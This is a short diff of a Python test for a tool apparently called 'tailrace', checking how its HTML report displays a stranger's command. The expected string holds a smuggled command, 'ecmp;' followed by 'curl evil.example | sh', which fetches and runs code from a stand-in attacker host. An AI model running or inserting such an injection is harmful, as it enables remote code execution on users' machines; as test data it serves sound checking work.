@@ -150,7 +150,7 @@ def test_a_command_of_a_stranger(run: Path, tmp_path: Path, capsys: pytest.Captu
     assert main(["report", str(tmp_path)]) == 0
     page = (tmp_path / "report.html").read_text()
     assert "tailrace run" not in page
-    assert "<code>tailrace paper x --scheme &#39;ecmp;&#39; curl evil.example &#39;|&#39; sh" in page
+    assert "<code>tailrace paper x --scheme 'ecmp;' curl evil.example '|' sh" in page
     assert capsys.readouterr().err == ""
 
 
